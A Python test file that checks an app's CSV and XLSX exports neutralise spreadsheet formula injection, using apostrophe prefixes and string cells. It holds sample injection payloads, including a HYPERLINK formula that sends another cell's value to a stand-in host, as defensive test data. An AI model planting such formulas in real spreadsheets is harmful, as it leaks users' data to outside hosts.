"""Text that Excel would take for a formula is written as text: CSV cells get a leading
apostrophe, .xlsx cells are string cells (the workbook read back holds no formula)."""

from __future__ import annotations

import csv
import io
import json
import sqlite3

from openpyxl import load_workbook

from tests.report.population import build_population
from ungtui.domain.fields import looks_like_formula, spreadsheet_text
from ungtui.domain.periods import parse_period
from ungtui.services.followup.report import build_report
from ungtui.services.followup.report_export import as_csv
from ungtui.services.people.individuals import IndividualFilter, IndividualInput, save_individual
from ungtui.services.privacy.list_export import export_individuals

HYPERLINK = '=HYPERLINK("http://x/?q="&C2,"Klicka")'
# As they may come from a spreadsheet or a peer; tab and CR cannot be typed here any more.
STARTS = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def test_the_rule():
    assert [looks_like_formula(v) for v in [*STARTS, "Öberg", "", 5, None]] == [
        *[True] * 6,
        False,
        False,
        False,
        False,
    ]
    assert spreadsheet_text(HYPERLINK) == "'" + HYPERLINK
    assert spreadsheet_text("Öberg") == "Öberg"


def _people(db, user, path) -> None:
    for n, name in enumerate(STARTS):
        person = save_individual(
            db,
            IndividualInput(birth_date="2005-03-17", first_name=f"Namn{n}", last_name="Ek"),
            actor_id=user.staff_id,
            organisation_id=user.organisation_id,
        )
        conn = sqlite3.connect(path)
        conn.execute("UPDATE individual SET last_name = ? WHERE id = ?", (name, person))
        conn.commit()
        conn.close()


def test_csv_cells_get_an_apostrophe(db, user, tmp_path):
    _people(db, user, db.path)
    out = export_individuals(db, user, IndividualFilter(), tmp_path / "lista.csv").path
    text = out.read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    last_names = sorted(r[0] for r in rows[1:])
    assert last_names == sorted("'" + s for s in STARTS)


def test_xlsx_has_no_formula(db, user, tmp_path):
    _people(db, user, db.path)
    out = export_individuals(db, user, IndividualFilter(), tmp_path / "lista.xlsx").path
    sheet = load_workbook(out).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    last_names = sorted(row[0].value for row in sheet.iter_rows(min_row=2))
    # The text itself (XML reads a carriage return back as a line feed).
    assert last_names == sorted(s.replace("\r", "\n") for s in STARTS)
    assert all(row[0].data_type == "s" for row in sheet.iter_rows(min_row=2))


def test_report_csv_writes_an_agreement_goal_as_text(db, user):
    pop = build_population(db, user)
    conn = sqlite3.connect(db.path)
    (goals,) = conn.execute(
        "SELECT goals FROM agreement WHERE id = ?", (pop.agreement_id,)
    ).fetchone()
    goals = json.loads(goals)
    goals[0]["goal"] = HYPERLINK  # as it came by sync from another install
    goals[0]["indicators"][0]["target"] = "@SUM(A1)"
    conn.execute(
        "UPDATE agreement SET goals = ? WHERE id = ?",
        (json.dumps(goals, ensure_ascii=False), pop.agreement_id),
    )
    conn.commit()
    conn.close()
    text = as_csv(build_report(db, parse_period("2026"), pop.agreement_id))
    rows = list(csv.reader(text.removeprefix("\ufeff").splitlines(), delimiter=";"))
    goal_rows = [r for r in rows if r and r[0].startswith(("'=", "=", "Fler", "'"))]
    assert goal_rows and goal_rows[0][0] == "'" + HYPERLINK
    assert goal_rows[0][2] == "'@SUM(A1)"
    assert not any(cell.startswith(("=", "@")) for row in rows for cell in row)
